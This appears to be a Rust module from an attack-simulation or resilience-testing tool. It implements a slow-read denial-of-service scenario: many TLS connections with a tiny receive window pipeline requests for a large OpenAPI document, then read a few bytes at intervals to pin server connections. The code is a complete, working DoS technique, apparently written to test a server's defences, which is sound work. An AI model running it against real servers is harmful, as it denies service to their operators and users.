//! `slow-read`: many TLS connections with a tiny receive window that ask for a large response
//! (the target's OpenAPI document, the request pipelined several times) and then read a few
//! bytes every `slow_interval`. A server that keeps a connection for as long as a response is
//! unread (a worker per connection, no write or idle deadline) keeps every such connection.
//!
//! Measured on Linux loopback: the kernel's send-buffer autotuning took the whole pipelined
//! response (8 x 18.7 KiB from rampart) and even 1.2 MiB into its send queue, so what this
//! pins on such a server is kernel memory and a connection slot, not the server's own
//! buffers; its write deadline engages only beyond what the kernel takes.

use std::sync::Arc;
use std::sync::atomic::Ordering;

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::{AttackCounters, AttackCtx, workers};
use crate::client::Buffers;
use crate::scenarios::{Load, Run, Scenario};

/// The large response asked for.
pub const PATH: &str = "/openapi.json";

/// How many times the request is pipelined, to make the whole response larger than the
/// socket buffers on both sides.
pub const PIPELINED: usize = 8;

/// The attacker's receive buffer; the kernel rounds it up to its minimum (about 2 KiB on
/// Linux), which is what sets the tiny window.
pub const RECV_BUF: u32 = 1024;

/// Bytes read after each pause.
pub const READ_BYTES: usize = 32;

/// The registry entry.
pub const SCENARIO: Scenario = Scenario {
    name: "slow-read",
    kind: "dos",
    description: "connections with a tiny receive window reading a large response a few bytes at a time",
    run: Run::Dos(|ctx, counters| Box::pin(attack(ctx, counters))),
    load: Load::Connections,
};

async fn attack(ctx: AttackCtx, counters: Arc<AttackCounters>) {
    let count = ctx.preset.connections;
    workers::run(ctx, counters, count, |ctx, counters, i| async move {
        worker(&ctx, ctx.sources.pick(i), &counters).await
    })
    .await;
}

async fn worker(ctx: &AttackCtx, src: std::net::IpAddr, counters: &AttackCounters) {
    let request = format!(
        "GET {PATH} HTTP/1.1\r\nHost: {}\r\nUser-Agent: attack-sim slow-read\r\n\r\n",
        ctx.client.host()
    )
    .repeat(PIPELINED);
    loop {
        let opened = async {
            let mut tls = ctx
                .client
                .tls_from_with(
                    src,
                    Buffers {
                        recv: Some(RECV_BUF),
                        send: None,
                    },
                )
                .await
                .ok()?;
            tls.write_all(request.as_bytes()).await.ok()?;
            tls.flush().await.ok()?;
            // From here on the raw socket is read: TLS would pull whole records (16 KiB) in
            // at once, and the response need not be decrypted to be read slowly.
            Some(tls.into_inner().0)
        };
        let Some(mut tcp) = workers::attempt(counters, opened).await else {
            continue;
        };
        counters.opened();
        let mut sip = [0u8; READ_BYTES];
        loop {
            tokio::time::sleep(ctx.preset.slow_interval).await;
            // A 0 is the server's close, an error its reset.
            if !matches!(tcp.read(&mut sip).await, Ok(n) if n > 0) {
                break;
            }
        }
        counters.closed();
        counters.cut.fetch_add(1, Ordering::Relaxed);
    }
}
